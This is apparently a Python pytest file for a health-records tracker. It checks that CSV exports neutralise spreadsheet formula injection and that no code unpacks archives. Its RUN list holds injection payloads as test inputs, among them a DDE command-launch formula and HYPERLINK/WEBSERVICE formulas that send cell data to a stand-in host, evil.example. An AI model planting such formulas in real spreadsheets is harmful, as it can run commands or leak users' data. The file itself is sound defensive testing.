"""Tables that leave for a spreadsheet are made in one place, which runs nothing; archives are unpacked nowhere (S25, S36)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from fhir_tracker.measures.formats import csv_of
from scripts.budgets import PACKAGES, ROOT, sources

WRITER = "fhir_tracker/measures/formats.py"
UNPACKING = {
    "zipfile",
    "tarfile",
    "gzip",
    "bz2",
    "lzma",
    "zlib",
    "shutil",
    "zipimport",
    "py7zr",
    "rarfile",
    "brotli",
    "zstandard",
}
ALLOWED = {
    ("zlib", "api/fhir/encoding.py"): "packs answers, and unpacks bodies up to the limit of a body",
    ("zlib", "subscriptions/decoding.py"): "unpacks answers of EHRs, up to their limit",
    ("gzip", "api/demo/records.py"): "reads the demo's own made-up records",
    ("shutil", "*"): "its disk_usage, which and rmtree; what unpacks is looked for by name",
}
UNPACKS = {
    "unpack_archive",
    "extractall",
    "extract",
    "ZipFile",
    "TarFile",
    "open_zip",
    "make_archive",
    "register_unpack_format",
}
RUN = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
    " =1+1",
    '"=1+1',
    "|x",
    "%0A=1",
]
RUN += [
    '=HYPERLINK("http://evil.example?"&A1,"press")',
    '=WEBSERVICE("http://evil.example")',
    "\u200b=1",
    ";=1",
    ",=1",
    "'=1",
]


def imports_of(path: Path) -> set[str]:
    """The names of what a file imports, from anywhere within."""
    found = set()
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.Import):
            found |= {one.name.partition(".")[0] for one in node.names}
        elif isinstance(node, ast.ImportFrom):
            found.add((node.module or "").partition(".")[0])
    return found


def called_in(path: Path) -> set[str]:
    """The names of what a file calls."""
    calls = [node.func for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)]
    return {one.attr if isinstance(one, ast.Attribute) else getattr(one, "id", "") for one in calls}


@pytest.mark.security("S25")
def test_one_module_alone_writes_tables_for_spreadsheets_and_every_export_goes_by_it() -> None:
    files = {str(path.relative_to(ROOT)): path for path in sources(*PACKAGES)}
    assert [place for place, path in files.items() if "csv" in imports_of(path)] == [WRITER]
    offering = [place for place, path in files.items() if '"csv"' in path.read_text() and place != WRITER]
    assert offering
    for place in offering:
        text = files[place].read_text()
        assert "csv_of" in text or "as_csv" in text, place
    for place, path in files.items():
        assert "text/tab-separated" not in path.read_text(), place
        assert "spreadsheetml" not in path.read_text(), place


@pytest.mark.security("S25")
@pytest.mark.parametrize("cell", RUN)
@pytest.mark.parametrize("place", [0, 1, 2])
def test_no_cell_of_any_column_is_run_or_begins_another(cell: str, place: int) -> None:
    line = ["a", "b", "c"]
    line[place] = cell
    (found,) = csv.reader(io.StringIO(csv_of([line]), newline=""))
    assert len(found) == 3
    assert found[place].lstrip(" \u200b\ufeff\u00a0")[:1] not in set("=+-@\t\r\n|%\uff1d")
    assert found[place].endswith(cell), "what was there can still be read"


@pytest.mark.security("S36")
def test_nothing_that_unpacks_archives_is_imported_or_called() -> None:
    found = []
    for path in sources(*PACKAGES):
        place = str(path.relative_to(ROOT))
        found += [
            f"{place} imports {name}"
            for name in sorted(imports_of(path) & UNPACKING)
            if not {(name, place), (name, "*")} & ALLOWED.keys()
        ]
        found += [f"{place} calls {name}" for name in sorted(called_in(path) & (UNPACKS - {"extract"}))]
    assert found == []


def test_each_exception_is_still_one() -> None:
    for name, place in ALLOWED:
        paths = sources(*PACKAGES) if place == "*" else [ROOT / place]
        assert any(name in imports_of(path) for path in paths), (name, place)
